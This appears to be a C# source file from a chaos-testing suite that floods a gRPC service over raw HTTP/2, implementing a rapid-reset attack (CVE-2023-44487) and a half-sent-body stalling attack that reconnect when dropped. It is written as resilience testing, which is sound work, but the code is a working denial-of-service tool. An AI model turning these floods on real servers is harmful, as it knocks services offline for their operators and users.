using System.Diagnostics;
using System.Net;
using HaMaster.Protos.V1;
using Google.Protobuf;

namespace HaMaster.Chaos.Overload;

/// <summary>What one raw flood did (printed in the overload report).</summary>
public sealed record FloodFigures(string Mode, long Streams, long Connections, long GoAways, long ServerResets, long BytesSent, TimeSpan Elapsed)
{
    public override string ToString() =>
        $"{Mode}: {Streams:N0} streams ({Streams / Math.Max(Elapsed.TotalSeconds, 0.001):N0}/s) on {Connections:N0} connections, " +
        $"{GoAways:N0} GOAWAY and {ServerResets:N0} RST_STREAM from the server, {BytesSent / 1048576.0:N1} MiB sent";
}

/// <summary>
/// Raw HTTP/2 floods of a master's client port (<see cref="Http2Wire"/>), each bounded by a
/// duration and reconnecting when the server closes the connection, as an attacker would.
/// </summary>
public static class RawFlood
{
    private const string GetStatusPath = "/hamaster.v1.FileSystemMaster/GetStatus";

    /// <summary>
    /// Rapid reset (CVE-2023-44487): HEADERS + DATA (a valid GetStatus) + RST_STREAM(CANCEL) per
    /// stream, as fast as the socket takes them, in batches of <paramref name="batch"/> streams.
    /// </summary>
    public static Task<FloodFigures> RapidResetAsync(IPEndPoint target, TimeSpan duration, int batch = 64, CancellationToken cancellationToken = default) =>
        // Its own thread with blocking sends: the flood must not take the thread pool that the
        // measured callers in this process share.
        Task.Factory.StartNew(() => RapidReset(target, duration, batch, cancellationToken), cancellationToken, TaskCreationOptions.LongRunning, TaskScheduler.Default);

    private static FloodFigures RapidReset(IPEndPoint target, TimeSpan duration, int batch, CancellationToken cancellationToken)
    {
        var message = new GetStatusRequest { Path = "/" }.ToByteArray();
        var body = new byte[5 + message.Length];
        Http2Wire.GrpcPrefix(message.Length).CopyTo(body, 0);
        message.CopyTo(body, 5);
        var authority = $"{target.Address}:{target.Port}";
        long streams = 0, connections = 0, goAways = 0, resets = 0, bytes = 0;
        var clock = Stopwatch.StartNew();
        using var stop = CancellationTokenSource.CreateLinkedTokenSource(cancellationToken);
        stop.CancelAfter(duration);
        var frames = new List<byte>(batch * 256);
        while (!stop.IsCancellationRequested)
        {
            Http2Wire? wire = null;
            try
            {
                wire = Http2Wire.ConnectAsync(target, stop.Token).GetAwaiter().GetResult();
                connections++;
                while (!stop.IsCancellationRequested && !wire.IsClosed)
                {
                    if (!wire.TakeConnectionWindow(batch * body.Length, stop.Token)) break;
                    frames.Clear();
                    for (var i = 0; i < batch; i++)
                    {
                        var id = wire.NextStreamId(trackWindow: false);
                        Http2Wire.AppendHeaders(frames, id, authority, GetStatusPath, endStream: false);
                        Http2Wire.AppendFrame(frames, Http2Wire.Data, 0, id, body);
                        Http2Wire.AppendRstStream(frames, id);
                    }

                    wire.Send(frames.ToArray(), stop.Token);
                    streams += batch;
                    bytes += frames.Count;
                }
            }
            catch (Exception e) when (e is IOException or System.Net.Sockets.SocketException or OperationCanceledException or ObjectDisposedException)
            {
            }
            finally
            {
                if (wire is not null)
                {
                    goAways += wire.GoAways;
                    resets += wire.ServerResets;
                    wire.DisposeAsync().AsTask().GetAwaiter().GetResult();
                }
            }
        }

        return new FloodFigures("rapid reset", streams, connections, goAways, resets, bytes, clock.Elapsed);
    }

    /// <summary>
    /// Half-sent large bodies: <paramref name="connections"/> connections with
    /// <paramref name="streamsPerConnection"/> streams each; every stream announces a message of
    /// <paramref name="announcedBytes"/> in its gRPC prefix, sends half of it and stalls. A
    /// connection the server closes is opened again until <paramref name="duration"/> ends.
    /// </summary>
    public static async Task<FloodFigures> HalfBodiesAsync(IPEndPoint target, TimeSpan duration, int connections, int streamsPerConnection, int announcedBytes, CancellationToken cancellationToken = default)
    {
        var authority = $"{target.Address}:{target.Port}";
        var half = new byte[5 + (announcedBytes / 2)];
        Http2Wire.GrpcPrefix(announcedBytes).CopyTo(half, 0);
        long streams = 0, opened = 0, goAways = 0, resets = 0, bytes = 0;
        var clock = Stopwatch.StartNew();
        using var stop = CancellationTokenSource.CreateLinkedTokenSource(cancellationToken);
        stop.CancelAfter(duration);

        async Task OneConnectionAsync()
        {
            while (!stop.IsCancellationRequested)
            {
                Http2Wire? wire = null;
                try
                {
                    wire = await Http2Wire.ConnectAsync(target, stop.Token);
                    Interlocked.Increment(ref opened);
                    var senders = new List<Task<long>>();
                    for (var i = 0; i < streamsPerConnection; i++)
                    {
                        var id = wire.NextStreamId();
                        var frames = new List<byte>(128);
                        Http2Wire.AppendHeaders(frames, id, authority, GetStatusPath, endStream: false);
                        await wire.SendAsync(frames.ToArray(), stop.Token);
                        Interlocked.Increment(ref streams);
                        senders.Add(wire.SendDataAsync(id, half, stop.Token));
                    }

                    foreach (var sender in senders)
                    {
                        try
                        {
                            await sender;
                        }
                        catch (Exception e) when (e is IOException or System.Net.Sockets.SocketException or OperationCanceledException or ObjectDisposedException)
                        {
                        }
                    }

                    // Stall: hold the streams until the server gives up on all of them (resets them
                    // or closes the connection) or the flood ends; then come back with new ones.
                    while (!stop.IsCancellationRequested && !wire.IsClosed && wire.ServerResets < streamsPerConnection)
                    {
                        await Task.Delay(100, stop.Token).ContinueWith(_ => { }, TaskScheduler.Default);
                    }
                }
                catch (Exception e) when (e is IOException or System.Net.Sockets.SocketException or OperationCanceledException or ObjectDisposedException)
                {
                }
                finally
                {
                    if (wire is not null)
                    {
                        Interlocked.Add(ref goAways, wire.GoAways);
                        Interlocked.Add(ref bytes, wire.DataBytesSent);
                        Interlocked.Add(ref resets, wire.ServerResets);
                        await wire.DisposeAsync();
                    }
                }

                // A closed connection is reopened after a short pause (bounded by the flood's end).
                await Task.Delay(200, stop.Token).ContinueWith(_ => { }, TaskScheduler.Default);
            }
        }

        await Task.WhenAll(Enumerable.Range(0, connections).Select(_ => Task.Run(OneConnectionAsync)));
        return new FloodFigures($"half-sent {announcedBytes >> 20} MiB bodies", streams, opened, goAways, resets, bytes, clock.Elapsed);
    }
}
